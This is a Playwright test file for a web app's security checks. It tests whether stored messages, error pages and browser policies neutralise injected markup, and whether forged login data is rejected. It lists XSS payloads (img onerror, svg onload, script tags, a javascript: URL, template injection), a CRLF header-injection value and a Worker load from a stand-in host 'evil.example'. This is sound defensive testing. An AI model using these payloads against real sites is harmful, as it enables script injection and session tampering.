import { join } from 'node:path';
import type { Page } from '@playwright/test';
import SQLite from 'better-sqlite3';
import { enter, watchErrors } from './page.ts';
import type { RunningServer } from './server.ts';
import { expect, test } from './story.ts';
import type { StoryUser } from './user.ts';

let server: RunningServer;
let user: StoryUser;
test.beforeEach(({ server: given, user: somebody }) => {
  [server, user] = [given, somebody];
});
test.setTimeout(90_000);

declare global {
  /** Set by any of the scripts that must not run. */
  var hacked: number | undefined;
}

const markup = [
  '<img src=x onerror="hacked=1">',
  '<script>hacked=1</script>',
  '"><svg onload="hacked=1">',
  'javascript:hacked=1',
  '{{constructor.constructor("hacked=1")()}}',
];
/** What the page's policy had to block; nothing, where no markup becomes markup. */
const violations = (page: Page): Promise<readonly string[]> =>
  page.evaluate(() => (globalThis as unknown as { blocked: string[] }).blocked);
const watchPolicy = (page: Page): Promise<void> =>
  page
    .addInitScript(() => {
      const blocked: string[] = [];
      Object.assign(globalThis, { blocked });
      addEventListener('securitypolicyviolation', (event) =>
        blocked.push(`${event.violatedDirective} ${event.blockedURI}`),
      );
    })
    .then(() => undefined);

test('S39: markup in messages is shown as the text that it is', async ({ page, context }) => {
  const errors = watchErrors(page);
  await watchPolicy(page);
  const db = new SQLite(join(server.data, 'halyard.db'));
  const add = db.prepare(
    'INSERT INTO messages (user_id, type, title, content, data_json, time, msg_time, is_read) VALUES (?, 3, ?, ?, NULL, ?, ?, 0)',
  );
  for (const [at, text] of markup.entries()) add.run(user.userId, text, text, Date.now() + at, Date.now() + at);
  db.close();
  await enter(context, server, user);
  await page.goto(`${server.url}/dashboard`);
  await page
    .getByRole('button', { name: /Messages/ })
    .first()
    .click();
  await page.getByRole('tab', { name: /System/ }).click();
  for (const text of markup)
    await expect(page.getByText(text, { exact: false }).first()).toBeVisible({ timeout: 20_000 });
  expect(await page.evaluate(() => globalThis.hacked)).toBeUndefined();
  expect(await violations(page)).toEqual([]);
  expect(errors).toEqual([]);
});

test('S39: in a browser that knows trusted types no text becomes markup or a worker of elsewhere, and the page itself needs neither', async ({
  page,
  context,
  browserName,
}) => {
  test.skip(browserName !== 'chromium', 'Firefox ESR does not know trusted types yet');
  const errors = watchErrors(page);
  await watchPolicy(page);
  await enter(context, server, user);
  await page.goto(`${server.url}/dashboard`);
  await expect(page.getByRole('tablist', { name: 'Instruments' })).toBeVisible({ timeout: 20_000 });
  await page.goto(`${server.url}/setup/security`);
  await expect(page.getByRole('heading', { name: 'Login log' })).toBeVisible({ timeout: 20_000 });
  expect(await violations(page)).toEqual([]);
  expect(errors).toEqual([]);
  const refused = await page.evaluate(() => {
    const reported = (work: () => unknown): string => {
      try {
        work();
        return 'done';
      } catch (error) {
        return (error as Error).name;
      }
    };
    return [
      reported(() => {
        document.createElement('div').innerHTML = '<img src=x onerror="hacked=1">';
      }),
      reported(() => {
        document.createElement('script').text = 'hacked=1';
      }),
      reported(() => new Worker('https://evil.example/worker.js')),
      reported(() => {
        document.createElement('iframe').srcdoc = '<script>hacked=1</script>';
      }),
    ];
  });
  expect(refused).toEqual(['TypeError', 'TypeError', 'TypeError', 'TypeError']);
});

test('S49: an error page says one of two things, whatever stands in its address, and leads to places of its own', async ({
  page,
}) => {
  await watchPolicy(page);
  for (const error of [...markup, '404%0d%0aSet-Cookie:a=b', '500', '']) {
    await page.goto(`${server.url}/error?error=${encodeURIComponent(error)}`);
    await expect(page.getByRole('heading', { name: 'Page not found' })).toBeVisible({ timeout: 20_000 });
    await expect(page.getByText('404', { exact: true })).toBeVisible();
    for (const link of await page.getByRole('link').all())
      expect(new URL((await link.getAttribute('href')) ?? '/', server.url).origin).toBe(server.url);
  }
  expect(await page.evaluate(() => globalThis.hacked)).toBeUndefined();
  expect(await violations(page)).toEqual([]);
});

test('S50: a role that somebody writes into the own browser gets nothing from the server, and goes', async ({
  page,
}) => {
  await page.goto(`${server.url}/login`);
  const forged = { invite_code: 'X', role: 'admin', token: 'forged', username: markup[0], vip_level: 9 };
  await page.evaluate((user) => localStorage.setItem('user', user), JSON.stringify(forged));
  await page.goto(`${server.url}/dashboard`);
  await expect
    .poll(() => page.evaluate(() => localStorage.getItem('user')), {
      message: 'the server knows no such token',
      timeout: 20_000,
    })
    .toBeNull();
  const answer = await page.evaluate(
    async () => (await fetch('/sapi/user/currentUser', { headers: { authorization: 'forged' } })).status,
  );
  expect(answer).toBe(401);
  expect(await page.evaluate(() => globalThis.hacked)).toBeUndefined();
});
